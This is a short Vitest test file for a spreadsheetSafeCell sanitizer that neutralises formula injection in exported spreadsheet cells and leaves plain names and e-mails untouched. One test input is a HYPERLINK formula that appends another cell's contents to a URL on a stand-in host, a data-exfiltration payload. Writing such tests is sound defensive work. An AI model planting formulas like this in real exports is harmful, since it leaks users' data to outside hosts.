import { describe, expect, it } from 'vitest';
import { spreadsheetSafeCell } from './spreadsheet-cells.js';

describe('spreadsheetSafeCell', () => {
  it('turns every would-be formula into text, whatever follows its first character', () => {
    for (const formula of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x/?"&C2,\n"Click")']) {
      expect(spreadsheetSafeCell(formula)).toBe(`'${formula}`);
    }
  });

  it('leaves names, e-mails and passwords as they are', () => {
    for (const plain of ['Zoë', "O'Brien", 'jose@hill.school', 'Ab3#kLmnPqrsTu', 'a=b']) {
      expect(spreadsheetSafeCell(plain)).toBe(plain);
    }
  });
});
